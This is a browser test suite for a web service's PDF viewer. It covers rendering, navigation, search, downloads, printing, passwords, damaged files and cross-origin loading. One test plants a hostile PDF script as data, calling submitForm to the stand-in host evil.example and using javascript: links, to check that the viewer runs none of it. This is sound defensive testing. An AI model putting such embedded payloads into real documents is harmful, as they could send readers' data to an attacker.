// The viewer of a PDF as a person meets it, in a real browser.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { before, test } from "node:test";
import { readable, unreadable } from "../../documents/damaged_pdfs.mjs";
import { broken, content, encryptedPdf, pdf, scannedPdf } from "../../documents/pdf_writer.mjs";
import { call, request, share, untilPdfIsMade } from "../../service/api_client.mjs";
import {
  assertAccessible,
  assertFits,
  assertLooksWell,
  devices,
  keepScreenshot,
  newContext,
  open,
  openMenu,
  save,
  withoutIteratedStreams,
} from "../browser.mjs";
import { browser, key } from "../one_browser.mjs";
import { serveSite } from "../https_server.mjs";

const report = pdf(
  Array.from({ length: 8 }, (_, i) => [
    `Harbour report, page ${i + 1}`,
    "",
    "The north mole was repaired in spring, and the lamp was renewed.",
    "Ships that came in: 214. Ships that went out: 211.",
    i === 4 ? "Here stands the word heliotrope, once." : "The keeper writes down what the keeper sees.",
  ]),
  { links: [{ url: "https://example.org/mole" }, { page: 6 }, { url: "ftp://example.org/x" }] },
);

let url;
before(async () => {
  url = await linkTo(report, { title: "Harbour report", allowDownload: true });
});

async function linkTo(bytes, more = {}) {
  return (await share(key, { template: "pdf", content: content(bytes), ...more })).url;
}

const layer = (page, number) => page.locator(`.page[data-page-number="${number}"] .textLayer`);
const drawn = (page, number) =>
  page.locator(`.page[data-page-number="${number}"][data-loaded="true"] canvas`).first().waitFor();

// Opens the viewer and waits until the first page is drawn.
async function openViewer(link, options) {
  const opened = await open(browser, link, options);
  await drawn(opened.page, 1);
  await layer(opened.page, 1).locator("span").first().waitFor();
  return opened;
}

// Whether something other than the paper's white is on the first canvas of a page.
const hasInk = (page, number) =>
  page
    .locator(`.page[data-page-number="${number}"] canvas`)
    .first()
    .evaluate((canvas) => {
      const copy = document.createElement("canvas");
      [copy.width, copy.height] = [canvas.width, canvas.height];
      const context = copy.getContext("2d");
      context.drawImage(canvas, 0, 0);
      return context
        .getImageData(0, 0, copy.width, copy.height)
        .data.some((value, i) => i % 4 < 3 && value < 100);
    });

const pageNumber = (page) => page.getByLabel("Page", { exact: true });
const scaleOf = (page) =>
  page
    .locator(".page")
    .first()
    .evaluate((element) => element.getBoundingClientRect().width);

const readers = { desktop: devices.desktop, phone: { ...devices.phone, deviceScaleFactor: 2 } };

for (const [name, options] of Object.entries(readers)) {
  test(`renders a document that fits and is accessible (${name})`, async () => {
    const { page, assertNoTrouble } = await openViewer(url, options);
    assert.equal(await page.title(), "Harbour report");
    assert.ok(await hasInk(page, 1));
    await page.locator("#file-card").waitFor({ state: "hidden" });
    assert.equal(await page.locator("#pdf-pages").textContent(), "8");
    assert.ok((await scaleOf(page)) <= options.viewport.width);
    for (const control of ["Previous page", "Next page", "Search"]) {
      const box = await page.getByRole("button", { name: control }).boundingBox();
      assert.ok(box.x >= 0 && box.x + box.width <= options.viewport.width, control);
    }
    await assertLooksWell(page, `pdf-${name}`);
    assertNoTrouble();
  });
}

test("renders a document with something before its header, and gives it as it was sent", async () => {
  const lines = Buffer.from("<br />\nWarning: Undefined variable $x in report.php on line 3\n");
  for (const before of [lines, Buffer.alloc(1024, " ")]) {
    // Its offsets count from the header, as where a program writes something before it sends a file.
    const sent = Buffer.concat([before, report]);
    const link = await linkTo(sent, { allowDownload: true });
    const { page, assertNoTrouble } = await openViewer(link);
    assert.ok(await hasInk(page, 1));
    assertNoTrouble();
    const { bytes } = await request("GET", link.replace("?", "/file?") + "&download=1");
    assert.ok(bytes.equals(sent));
  }
});

test("waits for what the service refuses for a moment, and then shows it", async () => {
  // It is fetched in ranges.
  const link = await linkTo(pdf([["A long one"], ["Its end"]], { filler: 2_000_000 }));
  const { page } = await open(browser, "about:blank");
  const refused = { HEAD: 0, GET: 0 };
  await page.route(/\/file\?/, async (route) => {
    const method = route.request().method();
    if (++refused[method] > 2) return route.continue();
    const status = method === "HEAD" ? 503 : 429;
    return route.fulfill({ status, headers: { "retry-after": "1" }, body: "" });
  });
  await page.goto(link);
  await drawn(page, 1);
  assert.equal(await page.locator("#pdf-pages").textContent(), "2");
  await page.locator("#file-card").waitFor({ state: "hidden" });
  assert.ok(refused.HEAD > 2 && refused.GET > 2);
});

test("turns pages by button, number and keyboard", async () => {
  const { page, assertNoTrouble } = await openViewer(url);
  const is = async (number) => {
    await page.waitForFunction((n) => document.getElementById("pdf-page").value === n, String(number));
    await drawn(page, number);
  };
  assert.ok(await page.getByRole("button", { name: "Previous page" }).isDisabled());
  await page.getByRole("button", { name: "Next page" }).click();
  await is(2);
  await pageNumber(page).fill("8");
  await pageNumber(page).press("Enter");
  await is(8);
  assert.ok(await page.getByRole("button", { name: "Next page" }).isDisabled());
  for (const nonsense of ["0", "9", "-1", "x", ""]) {
    await pageNumber(page).fill(nonsense);
    await pageNumber(page).press("Enter");
    assert.equal(await pageNumber(page).inputValue(), "8", nonsense);
  }
  await page.locator("#pdf-scroller").focus();
  await page.keyboard.press("ArrowLeft");
  await is(7);
  await page.keyboard.press("Home");
  await is(1);
  await page.keyboard.press("ArrowRight");
  await is(2);
  await page.keyboard.press("End");
  await is(8);
  const top = () => page.locator("#pdf-scroller").evaluate((element) => element.scrollTop);
  await page.keyboard.press("Home");
  await is(1);
  const before = await top();
  await page.keyboard.press("PageDown");
  await page.waitForFunction((was) => document.getElementById("pdf-scroller").scrollTop > was + 100, before);
  assertNoTrouble();
});

test("zooms in, out, to the width and the page, and follows the window", async () => {
  const { page, assertNoTrouble } = await openViewer(url, {
    viewport: { width: 1000, height: 800 },
  });
  const until = ({ above = 0, upTo = 1e6 }) =>
    page.waitForFunction(
      ([least, most]) => {
        const { width } = document.querySelector(".page").getBoundingClientRect();
        return width > least && width <= most;
      },
      [above, upTo],
    );
  let width = await scaleOf(page);
  await page.getByRole("button", { name: "Zoom in" }).click();
  await until({ above: width });
  width = await scaleOf(page);
  await page.locator("#pdf-scroller").focus();
  await page.keyboard.press("-");
  await until({ upTo: width - 1 });
  assert.match(await page.locator("#pdf-zoom option:checked").textContent(), /^\d+%$/);
  await page.locator("#pdf-zoom").selectOption("Fit page");
  await until({ upTo: 650 });
  await page.locator("#pdf-zoom").selectOption("Fit width");
  await until({ above: 940, upTo: 1000 });
  await page.setViewportSize({ width: 700, height: 800 });
  await until({ above: 640, upTo: 700 });
  await page.locator("#pdf-zoom").selectOption("200%");
  await until({ above: 1500 });
  assertNoTrouble();
});

test("finds, counts and shows a word by keyboard alone", async () => {
  const { page, assertNoTrouble } = await openViewer(url);
  await page.keyboard.press("Control+f");
  const field = page.getByLabel("Search document");
  await field.fill("heliotrope");
  await page.getByText("1 of 1", { exact: true }).waitFor();
  await layer(page, 5).locator(".highlight.selected").waitFor();
  assert.equal(await pageNumber(page).inputValue(), "5");
  await field.fill("keeper");
  await page.getByText(/^\d+ of 14$/).waitFor();
  const first = await page.locator("#pdf-found").textContent();
  await field.press("Enter");
  await page.waitForFunction((was) => document.getElementById("pdf-found").textContent !== was, first);
  await page.getByRole("button", { name: "Previous match" }).click();
  await page.waitForFunction((was) => document.getElementById("pdf-found").textContent === was, first);
  await keepScreenshot(page, "pdf-search");
  await assertAccessible(page);
  await field.fill("nowhere to be found");
  await page.getByText("No matches").waitFor();
  await field.press("Escape");
  assert.ok(await field.isHidden());
  assert.equal(await page.locator(".highlight").count(), 0);
  assertNoTrouble();
});

test("text can be selected", async () => {
  const { page } = await openViewer(url);
  const selected = await layer(page, 1).evaluate((element) => {
    getSelection().selectAllChildren(element);
    return getSelection().toString();
  });
  assert.match(selected, /Ships that came in: 214\./);
  const selectable = await layer(page, 1)
    .locator("span")
    .first()
    .evaluate((element) => getComputedStyle(element).userSelect);
  assert.notEqual(selectable, "none");
});

test("links open the web in a new tab, and pages of the document", async () => {
  const { page, assertNoTrouble } = await openViewer(url);
  const links = page.locator('.page[data-page-number="1"] .annotationLayer a[href]');
  await links.first().waitFor();
  const external = page.locator('.annotationLayer a[href="https://example.org/mole"]').first();
  assert.equal(await external.getAttribute("target"), "_blank");
  assert.equal(await external.getAttribute("rel"), "noopener noreferrer nofollow");
  assert.equal(await page.locator('.annotationLayer a[href^="ftp"]').count(), 0);
  await page.locator('.annotationLayer a[href^="#"]').first().click();
  await page.waitForFunction(() => document.getElementById("pdf-page").value === "6");
  assertNoTrouble();
});

test("offers the download if the link allows it", async () => {
  const { page, context } = await openViewer(url);
  const download = await save(page);
  assert.equal(download.suggestedFilename(), "Harbour report.pdf");
  assert.deepEqual(readFileSync(await download.path()), report);
  await context.close();

  const closed = await openViewer(await linkTo(report));
  const menu = await openMenu(closed.page);
  assert.doesNotMatch(await menu.innerText(), /Download|Print/);
  assert.ok(await closed.page.getByText("View only", { exact: true }).isVisible());
  assert.ok(await closed.page.getByRole("link", { name: "Open document" }).isHidden());
  for (const [name, options] of Object.entries(readers)) {
    await closed.page.setViewportSize(options.viewport);
    await assertLooksWell(closed.page, `pdf-not-savable-${name}`);
  }
  await closed.context.close();
});

test("says that it is loading before the library is there", async () => {
  const context = await browser.newContext({ ignoreHTTPSErrors: true });
  const page = await context.newPage();
  let proceed;
  const blocked = new Promise((resolve) => (proceed = resolve));
  await page.route(/pdf\.min\.mjs$/, async (route) => {
    await blocked;
    await route.continue();
  });
  await page.goto(url);
  await page.getByText("Loading the document…").waitFor();
  await page.locator("#pdf-toolbar").waitFor();
  assert.ok(await page.locator(".pdf-count").isHidden(), "the number of pages is not known yet");
  await keepScreenshot(page, "pdf-loading");
  proceed();
  await page.locator(".textLayer span").first().waitFor();
  assert.equal(await page.locator(".pdf-count").innerText(), "of 8");
  assert.equal(await page.getByText("Loading the document…").isVisible(), false);
});

test("a phone shows the first page before the viewer is there, at the same place", async () => {
  let release;
  const isReleased = new Promise((resolve) => (release = resolve));
  const context = await newContext(browser, devices.phone);
  const page = await context.newPage();
  await page.route("**/pdf_viewer.mjs", async (route) => {
    await isReleased;
    await route.continue();
  });
  await page.goto(url);
  const first = page.locator("canvas.pdf-first-page");
  await first.waitFor();
  assert.ok(await page.locator("#file-card").isHidden());
  const place = await first.boundingBox();
  release();
  await drawn(page, 1);
  await first.waitFor({ state: "detached" });
  const own = await page.locator('.page[data-page-number="1"]').boundingBox();
  for (const side of ["x", "y", "width", "height"])
    assert.ok(Math.abs(place[side] - own[side]) <= 1, `${side}: ${place[side]} and ${own[side]}`);
});

test("the controls have one row on a phone, in each language", async () => {
  for (const locale of ["en", "de", "fr", "es"]) {
    const { page, context } = await openViewer(url, { ...devices.phone, locale });
    const toolbar = page.locator("#pdf-toolbar");
    await toolbar.waitFor();
    const { height } = await toolbar.boundingBox();
    assert.ok(height < 60, `${locale}: ${height}`);
    await assertFits(page);
    await keepScreenshot(page, `pdf-controls-${locale}`);
    await context.close();
  }
});

test("a small window has the title, the version and the way to the history", async () => {
  const { id } = await share(key, { template: "pdf", content: content(report), title: "Harbour report" });
  const made = (await call(key, "POST", `/artifacts/${id}/share`, { showHistory: true, expiresIn: "1h" }))
    .json;
  for (const [width, height] of [
    [640, 400],
    [640, 450],
    [844, 390],
    [320, 256],
  ]) {
    const { page, context } = await open(browser, made.url, { viewport: { width, height } });
    const title = await page.getByRole("heading", { name: "Harbour report" }).boundingBox();
    assert.ok(title.width > 150, `${width} × ${height}: ${title.width}`);
    await page.getByText("Link expires").waitFor();
    assert.ok((await page.locator(".pdf-desk").boundingBox()).height >= 150);
    await assertFits(page);
    await keepScreenshot(page, `pdf-${width}-${height}`);
    // On a phone the end that is near stands in the header, and the rest in the menu.
    if (width <= 640) await openMenu(page);
    await page.locator(".made:visible").getByText("Created just now").waitFor();
    await page.getByRole("link", { name: "History" }).click();
    await page.getByRole("heading", { name: "History: Harbour report" }).waitFor();
    await context.close();
  }
});

test("prints all pages of the document, if the link allows to save it", async () => {
  const { page, context } = await openViewer(url);
  await page.evaluate(() => {
    window.print = () => (window.printed = document.querySelectorAll("#pdf-paper canvas").length);
  });
  await page.keyboard.press("Control+p");
  await page.waitForFunction(() => window.printed !== undefined);
  const pages = Number(await page.locator("#pdf-pages").innerText());
  assert.equal(await page.evaluate(() => window.printed), pages);
  await page.emulateMedia({ media: "print" });
  assert.ok(await page.locator("#pdf-paper canvas").first().isVisible());
  assert.equal(await page.locator("#pdf").isVisible(), false);
  await page.evaluate(() => window.dispatchEvent(new Event("afterprint")));
  assert.equal(await page.locator("#pdf-paper canvas").count(), 0);
  await context.close();

  const closed = await openViewer(await linkTo(report));
  await closed.page.emulateMedia({ media: "print" });
  const told = await closed.page
    .locator("#pdf-paper")
    .evaluate((paper) => getComputedStyle(paper, "::after").content);
  assert.match(told, /can be viewed, but not saved or printed/);
  await closed.context.close();
});

test("runs no script of a document", async () => {
  const evil = "app.alert('executed'); this.submitForm('https://evil.example/'); window.executed = true;";
  const link = await linkTo(
    pdf([["A document with scripts"]], {
      script: evil,
      links: [{ javascript: evil }, { url: "javascript:window.executed=true" }],
    }),
  );
  const { page, assertNoTrouble } = await openViewer(link);
  await page.locator(".annotationLayer").first().waitFor({ state: "attached" });
  for (const section of await page.locator(".annotationLayer section").all())
    await section.click({ force: true });
  assert.equal(await page.evaluate(() => window.executed), undefined);
  assert.equal(await page.locator('a[href^="javascript"]').count(), 0);
  assertNoTrouble();
});

test("loads a large file in ranges and opens before it is complete", async () => {
  const link = await linkTo(pdf([["Large"], ["Second"]], { filler: 5_000_000 }));
  const context = await newContext(browser);
  const page = await context.newPage();
  const statuses = [];
  page.on("response", (response) => {
    if (new URL(response.url()).pathname.endsWith("/file")) statuses.push(response.status());
  });
  await page.goto(link);
  await drawn(page, 1);
  assert.ok(statuses.includes(206), statuses.join(" "));
});

test("decodes a scan without WebAssembly", async () => {
  const { page, assertNoTrouble } = await open(browser, await linkTo(scannedPdf()));
  await drawn(page, 1);
  assert.ok(await hasInk(page, 1));
  assertNoTrouble();
});

test("the last view of a link shows its document", async () => {
  const link = await linkTo(report, { maxViews: 1 });
  const { page } = await open(browser, link);
  await page.getByRole("button", { name: "Open" }).click();
  await drawn(page, 1);
});

test("a link's password opens its document", async () => {
  const { page } = await open(browser, await linkTo(report, { password: "open sesame" }));
  await page.getByLabel("Password").fill("open sesame");
  await page.getByRole("button", { name: "Open" }).click();
  await drawn(page, 1);
});

test("asks for the password of an encrypted document", async () => {
  const { page, assertNoTrouble } = await open(
    browser,
    await linkTo(encryptedPdf(["Locked page"], "lantern")),
  );
  const field = page.getByLabel("Document password");
  await field.fill("wrong");
  await page.getByRole("button", { name: "Open" }).click();
  await page.getByText("Incorrect password").waitFor();
  await keepScreenshot(page, "pdf-password");
  await assertAccessible(page);
  await field.fill("lantern");
  await field.press("Enter");
  await drawn(page, 1);
  await layer(page, 1).getByText("Locked page").waitFor();
  assertNoTrouble();
});

test("a damaged document says so and still links to the file", async () => {
  const { page, assertNoTrouble } = await open(browser, await linkTo(broken));
  await page.getByText("This document cannot be displayed").waitFor();
  const way = page.getByRole("link", { name: "Open document" });
  assert.match(await way.getAttribute("href"), /^\/a\/art_\w+\/file\?token=/);
  await way.waitFor();
  await assertAccessible(page);
  await keepScreenshot(page, "pdf-broken");
  assertNoTrouble();
});

for (const [name, bytes] of Object.entries(unreadable)) {
  test(`a document with nothing that can be shown says so (${name})`, async () => {
    const { page, assertNoTrouble } = await open(browser, await linkTo(bytes, { allowDownload: true }));
    await page.getByText("This document cannot be displayed").waitFor();
    assert.ok(await page.locator("#pdf-toolbar").isHidden());
    assert.ok(await page.locator("#pdf-progress").isHidden());
    assert.ok(await page.getByRole("link", { name: "Open document" }).isVisible());
    assert.ok(await (await openMenu(page)).getByText("Download").isVisible());
    assertNoTrouble();
  });
}

for (const [name, bytes] of Object.entries(readable)) {
  test(`shows what is there of a damaged document (${name})`, async () => {
    const { page } = await open(browser, await linkTo(bytes));
    await drawn(page, 1);
    await page.locator("#file-card").waitFor({ state: "hidden" });
  });
}

test("without JavaScript there is a link to the file", async () => {
  const { page } = await open(browser, url, { javaScriptEnabled: false });
  assert.ok(await page.getByText("This document is a PDF file.").isVisible());
  assert.ok(await page.getByRole("link", { name: "Open document" }).isVisible());
  assert.ok(await (await openMenu(page)).getByText("Download").isVisible());
  assert.ok(await page.locator("#pdf-toolbar").isHidden());
  await keepScreenshot(page, "pdf-no-script");
});

const elsewhere = async (documentUrl) =>
  (await share(key, { template: "pdf", title: "Annual report", content: { url: documentUrl } })).url;

test("a PDF on another site is a card with its host, and nothing is loaded from there", async () => {
  const link = await elsewhere("https://docs.example.org/report.pdf");
  for (const [name, options] of Object.entries(readers)) {
    const { page, context, assertNoTrouble } = await open(browser, link, options);
    assert.ok(await page.getByText("This document is hosted at docs.example.org").isVisible());
    assert.ok(await page.getByRole("link", { name: "Open document" }).isVisible());
    await page.getByRole("button", { name: "Show here" }).waitFor();
    await page.waitForLoadState("networkidle");
    await assertLooksWell(page, `pdf-elsewhere-${name}`);
    assertNoTrouble();
    await context.close();
  }
  const { page } = await open(browser, link, { javaScriptEnabled: false });
  assert.ok(await page.getByRole("link", { name: "Open document" }).isVisible());
  assert.ok(await page.getByRole("button", { name: "Show here" }).isHidden());
  await keepScreenshot(page, "pdf-elsewhere-no-script");
});

test("shows a PDF on another site if that site allows it", async (t) => {
  const permitted = { "access-control-allow-origin": "*" };
  const site = await serveSite({
    "/report.pdf?v=2": { type: "application/pdf", body: report, headers: permitted },
  });
  t.after(() => site.stop());
  const origin = `https://files.example:${site.port}`;
  const link = await elsewhere(`${origin}/report.pdf?v=2`);
  const { page, assertNoTrouble } = await open(browser, link, { allowedOrigin: origin });
  await page.waitForLoadState("networkidle");
  assert.deepEqual(site.requests, []);
  await page.getByRole("button", { name: "Show here" }).click();
  await drawn(page, 1);
  await layer(page, 1).getByText("Harbour report, page 1").waitFor();
  await page.locator("#file-card").waitFor({ state: "hidden" });
  assert.ok(await (await openMenu(page)).getByText("Print").isVisible());
  assert.equal(site.requests.length, 1);
  const [{ headers }] = site.requests;
  assert.equal(headers.referer, undefined);
  assert.equal(headers.cookie, undefined);
  await assertAccessible(page);
  await keepScreenshot(page, "pdf-elsewhere-shown");
  assertNoTrouble();
});

test("shows a PDF on another site in browsers that cannot iterate over a stream", async (t) => {
  const permitted = { "access-control-allow-origin": "*" };
  const site = await serveSite({
    "/report.pdf": { type: "application/pdf", body: report, headers: permitted },
  });
  t.after(() => site.stop());
  const context = await newContext(browser);
  await context.addInitScript(withoutIteratedStreams);
  const page = await context.newPage();
  await page.goto(await elsewhere(`https://files.example:${site.port}/report.pdf`));
  await page.getByRole("button", { name: "Show here" }).click();
  const problem = page.getByText("cannot be displayed");
  await layer(page, 1).getByText("Harbour report, page 1").or(problem).waitFor();
  assert.equal(await problem.count(), 0);
});

test("explains why a PDF on another site cannot be displayed and links to it", async (t) => {
  const permitted = { "access-control-allow-origin": "*" };
  const file = { type: "application/pdf", body: report };
  const site = await serveSite({
    "/refused.pdf": file,
    "/missing.pdf": { status: 404, type: "text/plain", body: "nothing", headers: permitted },
    "/page": { type: "text/html", body: "<h1>Please sign in</h1>", headers: permitted },
    "/moved.pdf": {
      status: 302,
      type: "text/plain",
      headers: { ...permitted, location: "https://other.example:1/report.pdf" },
    },
  });
  t.after(() => site.stop());
  const origin = `https://files.example:${site.port}`;
  for (const [path, why] of [
    ["/refused.pdf", "does not allow other sites to load it"],
    ["/missing.pdf", "does not have it"],
    ["/page", "did not return a PDF"],
    ["/moved.pdf", "does not allow other sites to load it"],
  ]) {
    const { page, context } = await open(browser, await elsewhere(origin + path), { allowedOrigin: origin });
    const said = [];
    page.on("console", (message) => said.push(message.text()));
    page.on("pageerror", (error) => said.push(`script: ${error.message}`));
    await page.getByRole("button", { name: "Show here" }).click();
    await page.getByText(why).waitFor();
    // Browsers complain of what is preloaded and not used.
    assert.equal(await page.locator('link[rel="preload"]').count(), 0);
    const way = page.getByRole("link", { name: "Open document" });
    assert.ok(await way.isVisible());
    assert.equal(await way.getAttribute("href"), origin + path);
    assert.equal(await way.getAttribute("rel"), "noopener noreferrer nofollow");
    assert.ok(await page.locator("#pdf-toolbar").isHidden());
    await assertAccessible(page);
    await keepScreenshot(page, `pdf-elsewhere-${path.slice(1)}`);
    // What the browser itself says of a request, and nothing of ours.
    assert.deepEqual(
      said.filter((text) => !/CORS policy|Failed to load resource|Content Security Policy/.test(text)),
      [],
    );
    await context.close();
  }
});

test("the policy of a page lets it ask the document's site, and no other", async () => {
  const sources = async (documentUrl) => {
    const { headers } = await request("GET", await elsewhere(documentUrl));
    return /connect-src ([^;]*)/.exec(headers["content-security-policy"])[1];
  };
  assert.equal(await sources("https://docs.example.org/a.pdf"), "'self' https://docs.example.org");
  assert.equal(await sources("HTTPS://docs.example.org:8443?x"), "'self' https://docs.example.org:8443");
  assert.equal(await sources("https://[2001:db8::1]/a.pdf"), "'self'");
  const own = await request("GET", url);
  assert.match(own.headers["content-security-policy"], /connect-src 'self';/);
});

test("shows a document generated from Markdown like any other", async () => {
  const content = { markdown: "# Minutes\n\nThe lamp was **renewed**.\n\nהמנורה" };
  const { id, url } = await share(key, { template: "pdf", title: "Minutes", content });
  await untilPdfIsMade(key, id);
  const { page, assertNoTrouble } = await open(browser, url);
  await page.getByText("The lamp was").waitFor();
  // Text that runs from right to left begins on the right.
  const middle = (await scaleOf(page)) / 2;
  const left = async (locator) =>
    (await locator.boundingBox()).x - (await page.locator(".page").first().boundingBox()).x;
  assert.ok((await left(page.getByText("The lamp was"))) < middle);
  assert.ok(
    (await left(
      layer(page, 1)
        .locator("span", { hasText: /[\u05d0-\u05ea]/ })
        .first(),
    )) > middle,
  );
  await keepScreenshot(page, "pdf-made");
  assertNoTrouble();
});
